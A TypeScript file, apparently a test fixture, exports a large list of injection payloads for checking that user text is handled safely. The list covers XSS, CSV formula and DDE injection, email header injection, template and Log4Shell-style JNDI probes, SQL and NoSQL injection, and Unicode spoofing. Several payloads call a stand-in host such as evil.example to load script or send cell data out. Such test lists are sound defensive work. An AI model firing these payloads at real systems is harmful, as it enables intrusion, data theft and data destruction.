/** Texts that would do something where they are not treated as text. None is refused as such: people may write anything. */

const script = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href=javascript:alert(1)>click</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><style><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action=//evil.example><button>Pay</button></form>',
  '<object data=javascript:alert(1)>',
]

/** What may be open where the text is put: an attribute, an element of raw text, a comment, a JSON text. */
const closings = ['', '">', "'>", '</script>', '</title></textarea>', '--><!--', String.raw`\"}`]

const attributes = [
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '` onload=alert(1) `',
  '" style="position:fixed;inset:0" onclick="alert(1)',
  '&quot; onclick=&quot;alert(1)',
  '&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
]
const scripts = [
  "';alert(1);//",
  '";alert(1);//',
  '${alert(1)}',
  '`${alert(1)}`',
  String.raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
  String.raw`\x3cimg src=x onerror=alert(1)\x3e`,
  ']]><script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  'a\u2028alert(1)\u2029b',
]
const urls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  'https://user:password@evil.example',
  'file:///etc/passwd',
]
const formulas = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠']
  .flatMap((sign) => [`${sign}HYPERLINK("http://evil.example?"&A1)`, `${sign}cmd|' /C calc'!A0`])
  .concat([
    'Anna;=1+1',
    'Anna\t=1+1',
    'Anna\n=1+1',
    'Anna\r\n@SUM(1+1)*cmd',
    '"=1+1',
    '",=1+1,"',
    'Anna;"=1+1"',
  ])
const headers = [
  'Anna\r\nBcc: everybody@example.com',
  'Anna\nSubject: something else',
  'Anna\r\n\r\n<script>alert(1)</script>',
  'Anna\u0085Bcc: everybody@example.com',
  'Anna <boss@example.com>, other@example.com',
  'Anna" <boss@example.com>',
  '=?utf-8?q?=0D=0ABcc:_everybody@example.com?=',
  'Anna\r\nContent-Type: text/html\r\n\r\n<b>',
  'Anna\r\n.\r\nMAIL FROM:<evil@example.com>',
]
const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}',
  '{% raw %}{{ product.name }}{% endraw %}',
  '{%- include "../../.env" -%}',
  '{{ settings | json }}',
  '<%= 7*7 %>',
  '#{7*7}',
  '${{7*7}}',
  '[[${7*7}]]',
  '${jndi:ldap://evil.example/a}',
  '$(id)',
  '`id`',
  '| id',
  '%s%s%s%n',
  "$&$1$`$'",
]
const statements = [
  `' or 1=1; --`,
  `'; drop table orders; --`,
  `" union select * from users --`,
  `\\'; select pg_sleep(10); --`,
  `$$; select 1; $$`,
  `%' or '%'='`,
  '{"$gt":""}',
  `E'\\047'`,
]
const unicode = [
  '\u202Etxt.exe',
  '\u2066\u2067hidden\u2069',
  '\u200E\u200F\u061C',
  'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307',
  '\uFEFF<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '\u200B\u200C\u200D\u2060',
  '\uFFFD\uFFFE\uFFFF',
  'ﷺ'.repeat(30),
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(3),
  '\u0001\u0007\u001B[31mred\u007F',
  'x\u0008\u0008\u0008',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
]

export const payloads: string[] = [
  ...closings.flatMap((closing) => script.map((text) => closing + text)),
  ...attributes,
  ...scripts,
  ...urls,
  ...formulas,
  ...headers,
  ...templates,
  ...statements,
  ...unicode,
]
